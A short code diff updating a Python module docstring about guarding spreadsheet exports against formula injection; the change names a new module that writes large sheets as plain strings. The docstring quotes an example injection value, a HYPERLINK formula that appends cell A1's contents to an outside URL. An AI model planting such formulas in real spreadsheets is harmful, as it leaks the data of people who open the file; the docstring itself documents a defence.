@@ -4,7 +4,8 @@ openpyxl turns any string that starts with ``=`` into a formula, so a narrative 
 ``=HYPERLINK("http://…?x="&A1,"点击查看附件")`` would become a live formula that runs when the
 secretariat opens the file (spreadsheet formula injection). Every row written through openpyxl
 goes through :func:`append_text` or :func:`put_text`, which keep such values as the text they
-are; the exports' big sheets are written as text cells by :mod:`bot.render.sheetxml`.
+are; the exports' big sheets are written with XlsxWriter's ``write_string`` by
+:mod:`bot.render.xlsxbook`.
 """
 
 from __future__ import annotations
